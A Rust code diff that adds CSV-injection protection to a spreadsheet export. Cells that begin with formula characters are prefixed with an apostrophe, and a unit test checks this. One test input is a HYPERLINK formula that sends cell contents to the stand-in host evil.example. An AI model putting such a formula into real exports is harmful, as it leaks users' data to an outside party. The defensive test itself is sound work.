@@ -30,16 +30,28 @@ impl Table {
         }
     }
 
-    /// CSV in UTF-8 with a byte-order mark, so that Excel and WPS read the Chinese right.
+    /// CSV in UTF-8 with a byte-order mark, so that Excel and WPS read the Chinese right. A cell
+    /// that a spreadsheet would run as a formula is neutralised (see [`spreadsheet_safe`]).
     pub fn csv(&self) -> String {
         let mut w = csv::Writer::from_writer(Vec::new());
         // Writing to memory cannot fail.
-        let _ = w.write_record(&self.headers);
+        let _ = w.write_record(self.headers.iter().map(|c| spreadsheet_safe(c).into_owned()));
         for row in &self.rows {
-            let _ = w.write_record(row);
+            let _ = w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()));
         }
         let bytes = w.into_inner().unwrap_or_default();
         format!("\u{feff}{}", String::from_utf8_lossy(&bytes))
+    }
+}
+
+/// A cell as text a spreadsheet will not evaluate: one starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return (a member's note `=HYPERLINK(...)`) gets a leading apostrophe, which
+/// Excel and WPS show as plain text (OWASP's advice for CSV injection).
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
     }
 }
 
@@ -183,6 +195,30 @@ pub async fn notes(store: &dyn Store, status: Option<NoteStatus>) -> anyhow::Res
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_written_as_text() {
+        let bodies = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"点此\")",
+            "@SUM(A1:A9)",
+            "+1",
+            "-2",
+            "\tx",
+            "\rx",
+            "学习党章",
+        ];
+        let rows = bodies.iter().map(|b| vec![b.to_string()]).collect();
+        let csv = Table::new("notes", &["body"], rows).csv();
+        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        let cells: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
+        for (cell, body) in cells.iter().zip(bodies) {
+            if body == "学习党章" {
+                assert_eq!(cell, body, "ordinary text is untouched");
+            } else {
+                assert_eq!(cell, &format!("'{body}"), "neutralised");
+            }
+        }
+    }
 
     #[test]
     fn distances_are_great_circle_metres() {
